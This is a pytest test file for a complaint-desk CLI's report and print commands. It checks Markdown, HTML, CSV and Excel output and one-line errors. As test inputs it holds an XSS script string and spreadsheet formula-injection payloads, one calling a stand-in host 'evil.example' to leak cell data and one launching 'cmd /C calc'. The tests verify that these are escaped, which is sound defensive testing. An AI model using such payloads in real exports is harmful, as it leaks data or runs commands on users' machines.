"""kesu-desk report and kesu-desk print as a user meets them: Markdown, HTML and CSV out, user
text that never becomes markup, and one-line errors."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest

from casesteps import PEOPLE, desk_settings, draft, real_login, to_follow_up
from kesu_desk.cli import main
from kesu_desk.services import cases, corrective, users
from kesu_desk.services.desk import Desk
from kesu_desk.sla import utcnow

HOSTILE = "<script>alert('x')</script> [b]粗体[/b] | *星* _下_ & 壶盖漏水"


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "kesu_desk", *args], capture_output=True, text=True,
                          env=dict(os.environ), timeout=120)


class Data:
    def __init__(self, url: str, qa: str, other: str, today: str) -> None:
        self.url, self.qa, self.other, self.today = url, qa, other, today


@pytest.fixture
def data(sqlite_url: str) -> Iterator[Data]:
    desk = Desk.open(desk_settings(sqlite_url))
    for name, role, dept in PEOPLE:
        users.add_user(desk, name, role, dept)
    users.add_user(desk, real_login(), "admin")  # who runs the commands started as processes
    qa = to_follow_up(desk, cases.register_case(desk, "ag", draft(description=HOSTILE, batch="B1",
                                                                  category="quality_defect")))
    qa = cases.record_follow_up(desk, "ag", qa.number, score=5, comments="满意", version=qa.version)
    today = desk.calendar.local_date(utcnow())
    action = corrective.open_action(desk, "sup", qa.number, owner="hq", due=today + timedelta(days=5),
                                    text="来料全检 <b>now</b>")
    corrective.record_progress(desk, "hq", action.id, note="已完成", done=True)
    other = cases.register_case(desk, "ag", draft(phone="13900139000", channel="email"))
    desk.close()
    yield Data(sqlite_url, qa.number, other.number, today.isoformat())


def report(data: Data, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    code = main(["--db", data.url, "--lang", "en", "report", "--from", data.today, "--to", data.today, *args])
    out = capsys.readouterr()
    assert code == 0, out.err
    return out.out


def test_report_as_markdown(data: Data, capsys: pytest.CaptureFixture[str]) -> None:
    out = report(data, capsys)
    assert out.startswith(f"# Complaint review {data.today} – {data.today}\n")
    assert "| Cases registered | 2 |" in out
    assert "| Closed | 1 |" in out
    assert "| refund | 1 | 300.00 |" in out
    assert "| 5 very satisfied | 1 | 100.0% |" in out
    assert "## Typical cases, kept for training" in out and "Nothing in this period." in out


def test_report_as_html_escapes_what_users_typed(data: Data, capsys: pytest.CaptureFixture[str]) -> None:
    desk = Desk(desk_settings(data.url))
    cases.mark_typical(desk, "sup", data.qa)
    desk.close()
    out = report(data, capsys, "--format", "html")
    assert out.startswith("<!DOCTYPE html>") and out.rstrip().endswith("</html>")
    assert "<script" not in out and "<b>now" not in out
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; [b]粗体[/b] | *星* _下_ &amp; 壶盖漏水" in out
    assert "来料全检 &lt;b&gt;now&lt;/b&gt;" in out
    assert 'href=' not in out and "src=" not in out  # self-contained: nothing to fetch


def test_report_as_csv_is_machine_readable(data: Data, capsys: pytest.CaptureFixture[str]) -> None:
    out = report(data, capsys, "--format", "csv", "--lang", "zh")
    blocks = out.strip("\n").split("\n\n")
    sections = {}
    for block in blocks:
        rows = list(csv.reader(io.StringIO(block)))
        header, body = rows[0], rows[1:]
        assert header[0] == "section"
        assert all(row[0] == body[0][0] and len(row) == len(header) for row in body)
        sections[body[0][0] if body else None] = [dict(zip(header, row, strict=True)) for row in body]
    assert {"summary", "by_category", "deadlines", "remedies", "satisfaction", "corrective_actions"} <= set(sections)
    summary = {r["figure"]: r["value"] for r in sections["summary"]}
    assert (summary["total"], summary["total_cost"], summary["satisfaction_average"]) == ("2", "300.00", "5.00")
    [action] = sections["corrective_actions"]
    assert (action["case"], action["owner"], action["status"], action["action"]) == (
        data.qa, "hq", "done", "来料全检 <b>now</b>")  # CSV keeps the text as typed
    assert {r["channel"] for r in sections["by_channel"]} == {"phone", "email"}


def test_report_csv_cells_a_spreadsheet_would_run_are_neutralised(
    data: Data, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 11.5: what customers typed starts no formula; the desk's own numbers stay numbers."""
    desk = Desk(desk_settings(data.url))
    for _ in range(2):  # a repeat complainant, named by what they typed
        typed = cases.register_case(desk, "ag", draft(
            phone="13700137000", customer_name="=HYPERLINK(\"http://evil.example/?\"&A1)",
            description="@SUM(1+1)*cmd|' /C calc'!A0", product="+P", batch="-B"))
    cases.mark_typical(desk, "sup", typed.number)
    desk.close()
    out = report(data, capsys, "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "4" in cells and "300.00" in cells


def test_report_to_a_file(data: Data, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    target = tmp_path / "review.html"
    report(data, capsys, "--format", "html", "-o", str(target))
    assert target.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_print_the_record_form(data: Data, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--db", data.url, "--lang", "en", "print", data.qa]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"# Complaint record {data.qa}\n")
    for heading in ("1. Receipt and registration", "2. Validity", "3. Responsible department",
                    "4. Cause (5W2H and fishbone)", "5–6. Proposed remedy and approval",
                    "7. The customer's answer", "8. Implementation", "Internal accountability",
                    "Preventive action", "9. Follow-up survey", "10. Review", "Timeline"):
        assert f"## {heading}\n" in out
    assert r"\<script\>alert('x')\</script\> \[b\]粗体\[/b\] \| \*星\* \_下\_ & 壶盖漏水" in out
    assert "<script>" not in out
    assert "- **Fishbone factor:** material" in out
    assert "> 供应商批次胶料老化" in out
    assert "| 1 | " in out and "accepted by the customer" in out


def test_print_html_and_8d(data: Data, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--db", data.url, "--lang", "zh", "print", data.qa, "--format", "html", "--8d"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("<!DOCTYPE html>") and "<script" not in out
    for d in ("D1 成立小组", "D2 问题描述", "D3 临时措施", "D4 根本原因", "D5 选定纠正措施",
              "D6 实施纠正措施", "D7 预防再发生", "D8 结案"):
        assert d in out
    assert "&lt;script&gt;" in out
    assert "hq (hq) — 处理人 QA 质量管理部" not in out and "hq — 处理人 QA 质量管理部" in out
    assert "来料全检 &lt;b&gt;now&lt;/b&gt;" in out and "已完成" in out


@pytest.mark.parametrize(
    ("args", "needle", "code"),
    [
        (["report", "--from", "2026-13-01", "--to", "2026-12-31"], "not a date (YYYY-MM-DD): '2026-13-01'", 2),
        (["report", "--from", "2026-12-01"], "the following arguments are required: --to", 2),
        (["report", "--from", "2026-12-31", "--to", "2026-12-01"], "The period ends (2026-12-01) before it starts (2026-12-31).", 1),
        (["report", "--from", "2026-12-01", "--to", "2026-12-31", "--format", "pdf"], "invalid choice: 'pdf'", 2),
        (["print", "KS-19990101-0001"], "No case KS-19990101-0001.", 1),
        (["print", "{other}", "--8d"], "belongs to department -: the 8D report is for quality (QA) cases.", 1),
    ],
)
def test_errors_are_one_line(data: Data, args: list[str], needle: str, code: int) -> None:
    done = run("--db", data.url, "--lang", "en", *[a.replace("{other}", data.other) for a in args])
    assert done.returncode == code, done.stderr
    assert done.stderr.count("\n") == 1 and needle in done.stderr, done.stderr
    assert "Traceback" not in done.stderr and done.stdout == ""


def test_help_documents_both_commands() -> None:
    out = run("--help").stdout
    assert "report" in out and "print" in out
    help_text = run("report", "--help").stdout
    for words in ("--from", "--to", "md,html,csv", "one block per table", "corrective_actions"):
        assert words in help_text
    assert "--8d" in run("print", "--help").stdout


def test_report_as_an_excel_workbook(data: Data, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Issue 17: one sheet per table of the review, its header row frozen, numbers as numbers,
    what customers typed as text (never a formula), columns wide enough for Chinese text."""
    desk = Desk(desk_settings(data.url))
    for _ in range(2):  # a repeat complainant, named by what they typed
        cases.register_case(desk, "ag", draft(phone="13700137000", customer_name='=HYPERLINK("http://x")&"壶盖漏水壶盖漏水"'))
    desk.close()
    target = tmp_path / "review.xlsx"
    assert main(["--db", data.url, "--lang", "zh", "report", "--from", data.today, "--to", data.today,
                 "--format", "xlsx", "-o", str(target)]) == 0
    book = openpyxl.load_workbook(target)
    assert book.sheetnames[0] == "概况" and "按责任部门" in book.sheetnames and len(book.sheetnames) >= 10
    summary = book["概况"]
    assert summary.freeze_panes == "A2"
    assert [c.value for c in summary[2]] == ["登记件数", 4] and summary["B2"].data_type == "n"
    repeat = next(book[name] for name in book.sheetnames if name.startswith("重复投诉"))
    named = [c for row in repeat.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert named and all(c.data_type == "s" for c in named)
    assert repeat.column_dimensions[named[0].column_letter].width >= 30  # 8 Chinese characters and more


def test_an_excel_workbook_is_never_written_to_the_terminal(data: Data, capsys: pytest.CaptureFixture[str]) -> None:
    for command in (["report", "--from", data.today, "--to", data.today], ["export"]):
        assert main(["--db", data.url, "--lang", "en", *command, "--format", "xlsx"]) != 0
        out = capsys.readouterr()
        assert out.out == "" and "give it with -o FILE.xlsx" in out.err
